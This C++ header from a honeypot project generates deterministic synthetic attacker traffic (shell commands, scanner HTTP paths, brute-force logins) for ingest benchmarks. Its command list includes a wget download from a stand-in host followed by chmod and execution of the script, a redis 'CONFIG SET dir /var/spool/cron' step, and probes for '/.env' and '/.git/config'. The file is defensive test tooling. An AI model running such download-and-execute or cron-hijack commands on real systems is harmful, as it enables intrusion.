// The benches' synthetic honeypot traffic (ingest_bench, intel_bench): Events shaped like a
// busy fleet's, deterministic for a given sequence of calls.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "events/event.hpp"

namespace decnet::bench {

// Traffic shaped like a busy honeypot: attacker sessions from a pool of 5,000 source
// addresses, 64 of them active at a time and interleaved, each a connect, a run of
// commands (ssh/telnet/redis), http requests (scanner paths, a User-Agent header, so each
// new path is a fingerprint bounty) or login attempts (a wordlist), then a disconnect.
// About 5% of events carry credentials. With --unique-ips every event comes from a new
// address instead: the worst case for the attacker_ip index (one b-tree leaf per row).
struct Session {
    std::string ip;
    int kind = 0;       // 0 ssh shell, 1 http scanner, 2 telnet/redis, 3 brute force
    int remaining = 0;  // events left
    int step = 0;
};

class Traffic {
  public:
    explicit Traffic(bool unique_ips) : unique_ips_(unique_ips), sessions_(64) {
        for (auto& s : sessions_) start(s);
    }

    Event next(std::size_t i) {
        auto& s = sessions_[rng() % sessions_.size()];
        Event e = make(s, i);
        if (--s.remaining <= 0) start(s);
        return e;
    }

  private:
    std::uint64_t rng() {  // xorshift64: deterministic and cheap next to the event itself
        state_ ^= state_ << 13;
        state_ ^= state_ >> 7;
        state_ ^= state_ << 17;
        return state_;
    }

    static std::string address(std::uint64_t a) {
        return "10." + std::to_string(a >> 16 & 255) + "." + std::to_string(a >> 8 & 255) + "." +
               std::to_string(a & 255);
    }

    void start(Session& s) {
        s.ip = address(rng() % 5000);
        const auto kind = rng() % 20;  // 40% ssh shells, 20% http, 35% telnet/redis, 5% brute force
        s.kind = kind < 8 ? 0 : kind < 12 ? 1 : kind < 19 ? 2 : 3;
        s.remaining = 5 + static_cast<int>(rng() % 40);
        s.step = 0;
    }

    Event make(Session& s, std::size_t i) {
        static constexpr const char* kCommands[] = {"uname -a",
                                                    "cat /proc/cpuinfo",
                                                    "wget http://198.51.100.7/x.sh",
                                                    "ls -la /tmp",
                                                    "cd /tmp; chmod +x x.sh; ./x.sh",
                                                    "CONFIG SET dir /var/spool/cron",
                                                    "INFO",
                                                    "id"};
        static constexpr const char* kPaths[] = {"/",
                                                 "/wp-login.php",
                                                 "/.env",
                                                 "/admin",
                                                 "/phpmyadmin/",
                                                 "/cgi-bin/luci",
                                                 "/actuator/health",
                                                 "/.git/config",
                                                 "/boaform/admin/formLogin",
                                                 "/HNAP1/"};
        static constexpr const char* kUsers[] = {"root", "admin", "ubuntu", "pi", "oracle"};
        Event e;
        e.time = event_now();
        e.decky = "decky-" + std::to_string(1 + rng() % 10);
        if (unique_ips_) s.ip = address(5000 + counter_++);
        const bool first = s.step++ == 0;
        const bool last = s.remaining == 1;
        static constexpr const char* kLifecycle[] = {"ssh", "http", "telnet", "ssh"};
        if (first || last) {
            e.service = s.kind == 2 && rng() % 2 ? "redis" : kLifecycle[s.kind];
            e.event_type = first ? "connect" : "disconnect";
            e.add("src_ip", s.ip).add("src_port", 32768 + i % 28000);
            return e;
        }
        switch (s.kind) {
            case 0:
                e.service = "ssh";
                e.event_type = "command";
                e.add("src_ip", s.ip).add("command", kCommands[rng() % 8]);
                break;
            case 1:
                e.service = "http";
                e.event_type = "request";
                e.add("src_ip", s.ip)
                    .add("method", rng() % 4 ? "GET" : "POST")
                    .add("path", kPaths[rng() % 10])
                    .add("headers",
                         "{\"User-Agent\":\"Mozilla/5.0 zgrab/0.x\",\"Accept\":\"*/*\"}");
                break;
            case 2:
                e.service = rng() % 2 ? "redis" : "telnet";
                e.event_type = "command";
                e.add("src_ip", s.ip).add("command", kCommands[rng() % 8]);
                break;
            default:
                e.service = rng() % 2 ? "ssh" : "ftp";
                e.event_type = "login_attempt";
                e.add("src_ip", s.ip)
                    .add("username", kUsers[rng() % 5])
                    .add("password", "pass" + std::to_string(rng() % 200));
        }
        return e;
    }

    bool unique_ips_;
    std::vector<Session> sessions_;
    std::uint64_t state_ = 0x9E3779B97F4A7C15ull;
    std::uint64_t counter_ = 0;
};

}  // namespace decnet::bench
